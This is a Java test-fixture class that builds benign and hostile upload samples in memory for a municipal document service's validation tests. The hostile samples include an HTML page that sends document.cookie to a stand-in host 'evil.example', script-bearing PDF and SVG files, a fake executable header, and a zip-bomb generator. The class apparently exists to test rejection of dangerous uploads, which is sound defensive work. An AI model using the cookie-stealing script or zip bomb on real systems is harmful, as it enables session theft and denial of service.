package org.cityhall.documents;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/** Real files and hostile ones, made in memory for each test. */
final class UploadSamples {

	static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
	static final String ODT = "application/vnd.oasis.opendocument.text";

	private UploadSamples() {
	}

	static byte[] pdf() {
		return new PdfDocuments().render("""
				<html lang="sv"><head><title>Situationsplan</title></head>
				<body><p>Situationsplan för Söderåsen 4:12</p></body></html>
				""");
	}

	static byte[] pdfWithJavaScript() {
		return savedPdf(document -> document.getDocumentCatalog()
				.setOpenAction(new PDActionJavaScript("app.alert('hej');")));
	}

	static byte[] encryptedPdf() {
		return savedPdf(document -> {
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret", new AccessPermission());
			policy.setEncryptionKeyLength(128);
			try {
				document.protect(policy);
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
		});
	}

	static byte[] png() {
		return image("png");
	}

	static byte[] jpeg() {
		return image("jpg");
	}

	static byte[] html() {
		return """
				<!DOCTYPE html>
				<html><head><title>Betala här</title></head>
				<body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>
				""".getBytes(StandardCharsets.UTF_8);
	}

	/** The start of a Windows program: the DOS stub and a PE header. */
	static byte[] windowsExecutable() {
		byte[] exe = new byte[1024];
		exe[0] = 'M';
		exe[1] = 'Z';
		exe[0x3c] = (byte) 0x80;
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
		System.arraycopy(stub, 0, exe, 0x4e, stub.length);
		return exe;
	}

	static byte[] svgWithScript() {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
				  <rect width="10" height="10" fill="green"/>
				  <script type="text/javascript">alert(document.domain)</script>
				</svg>
				""".getBytes(StandardCharsets.UTF_8);
	}

	static byte[] svg() {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="green"/></svg>
				""".getBytes(StandardCharsets.UTF_8);
	}

	static byte[] text() {
		return "Hej! Det här är bara text, ingen bild.\n".repeat(20).getBytes(StandardCharsets.UTF_8);
	}

	/** A minimal Word document: the parts every .docx has. */
	static byte[] docx() {
		return zip(Map.of(
				"[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>",
				"_rels/.rels", "<?xml version=\"1.0\"?><Relationships/>",
				"word/document.xml", "<?xml version=\"1.0\"?><w:document xmlns:w=\"x\"><w:body>Hej</w:body></w:document>"));
	}

	static byte[] plainZip() {
		return zip(Map.of("readme.txt", "Hej", "plan.txt", "Ritning"));
	}

	/** An OpenDocument text: its first entry names its type, stored unpacked. */
	static byte[] odt() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			byte[] type = ODT.getBytes(StandardCharsets.US_ASCII);
			ZipEntry mimetype = new ZipEntry("mimetype");
			mimetype.setMethod(ZipEntry.STORED);
			mimetype.setSize(type.length);
			CRC32 crc = new CRC32();
			crc.update(type);
			mimetype.setCrc(crc.getValue());
			zip.putNextEntry(mimetype);
			zip.write(type);
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry("content.xml"));
			zip.write("<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"/>"
					.getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/**
	 * A zip bomb: a Word-shaped archive whose document part unpacks to {@code megabytes} of zeros
	 * while the file stays a few hundred kilobytes.
	 */
	static byte[] zipBomb(boolean docxShaped, int megabytes) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			if (docxShaped) {
				zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
				zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
				zip.closeEntry();
			}
			zip.putNextEntry(new ZipEntry(docxShaped ? "word/document.xml" : "zeros.bin"));
			writeZeros(zip, megabytes);
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	static byte[] manyEntries(int entries) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (int i = 0; i < entries; i++) {
				zip.putNextEntry(new ZipEntry("e" + i));
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static void writeZeros(OutputStream out, int megabytes) throws IOException {
		byte[] megabyte = new byte[1024 * 1024];
		for (int i = 0; i < megabytes; i++) {
			out.write(megabyte);
		}
	}

	private static byte[] zip(Map<String, String> entries) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (Map.Entry<String, String> entry : new TreeMap<>(entries).entrySet()) {
				zip.putNextEntry(new ZipEntry(entry.getKey()));
				zip.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static byte[] image(String format) {
		BufferedImage image = new BufferedImage(32, 24, BufferedImage.TYPE_INT_RGB);
		var graphics = image.createGraphics();
		graphics.setColor(new Color(0x1d, 0x70, 0xb8));
		graphics.fillRect(0, 0, 32, 24);
		graphics.dispose();
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try {
			if (!ImageIO.write(image, format, bytes)) {
				throw new IllegalStateException("no writer for " + format);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static byte[] savedPdf(Consumer<PDDocument> change) {
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			change.accept(document);
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			document.save(bytes);
			return bytes.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}
}
